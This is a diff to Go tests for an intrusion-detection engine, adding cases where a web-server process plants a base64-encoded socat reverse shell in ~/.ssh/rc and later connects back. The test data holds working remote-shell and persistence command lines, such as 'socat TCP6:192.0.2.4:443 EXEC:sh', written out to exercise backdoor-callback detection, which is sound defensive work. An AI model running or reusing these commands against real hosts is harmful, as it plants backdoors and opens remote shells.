@@ -1,6 +1,7 @@
 package detect
 
 import (
+	"encoding/base64"
 	"slices"
 	"strconv"
 	"strings"
@@ -27,6 +28,9 @@ func TestNamedPeers(t *testing.T) {
 		// a forward's target is where forwarded connections go
 		{"ssh -N -R 127.0.0.1:18070:127.0.0.1:8070 u@192.0.2.4", nil},
 		{"ssh -L 8080:10.0.0.5:80 jump", nil},
+		// socat's address types end in a digit: UDP4: is no forward's port
+		{"setsid -f socat UDP4:127.0.0.1:5300 SYSTEM:'echo ready; exec sh'", []plantKey{{ip: "127.0.0.1", port: 5300}}},
+		{"socat TCP6:192.0.2.4:443 EXEC:sh", []plantKey{{ip: "192.0.2.4", port: 443}}},
 	} {
 		if got := namedPeers(c.cmd); !slices.Equal(got, c.want) {
 			t.Errorf("namedPeers(%q) = %v, want %v", c.cmd, got, c.want)
@@ -103,5 +107,30 @@ func TestPlantsBoundSaid(t *testing.T) {
 	d := e.Dropped()
 	if len(d) != 1 || !strings.Contains(d[0], "10 addresses") {
 		t.Errorf("dropped notes %q, want 10 addresses forgotten", d)
+	}
+}
+
+// TestEncodedPlantNamesPeer: the plant's content goes through base64 on
+// its way into the file (`echo <b64> | base64 -d > ~/.ssh/rc`): the
+// writer is base64, the address is in its shell's command once decoded,
+// and a later socat to it is the backdoor calling back (desk-attachname).
+func TestEncodedPlantNamesPeer(t *testing.T) {
+	e, err := New(Options{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	s := newSynth()
+	s.exec(10, 1, 33, "www-data", "/var/www/html", "/usr/sbin/php-fpm8.2", "php-fpm")
+	payload := base64.StdEncoding.EncodeToString([]byte("setsid -f socat UDP4:198.51.100.9:5300 SYSTEM:'exec sh'\n"))
+	e.Observe(s.exec(20, 10, 33, "www-data", "/var/www/html", "/usr/bin/dash", "sh", "-c", "echo "+payload+" | base64 -d > /var/www/.ssh/rc"), s.tree)
+	e.Observe(s.exec(21, 20, 33, "www-data", "/var/www/html", "/usr/bin/base64", "base64", "-d"), s.tree)
+	fs := e.Observe(s.file(parser.KindFileWrite, 21, 20, 33, "/usr/bin/base64", "/var/www/.ssh/rc", true), s.tree)
+	if f := has(fs, "web-persistence-file-write"); f == nil {
+		t.Fatalf("the rc write: %v", ids(fs))
+	}
+	s.exec(30, 1, 0, "root", "/", "/usr/sbin/sshd", "sshd")
+	s.exec(40, 30, 33, "www-data", "/var/www", "/usr/bin/socat", "socat", "UDP4:198.51.100.9:5300", "SYSTEM:exec sh")
+	if fs := e.Observe(s.connect(40, 30, 33, "/usr/bin/socat", "198.51.100.9", 5300), s.tree); has(fs, "backdoor-callback") == nil {
+		t.Errorf("the decoded plant's address is not called back: %v", ids(fs))
 	}
 }
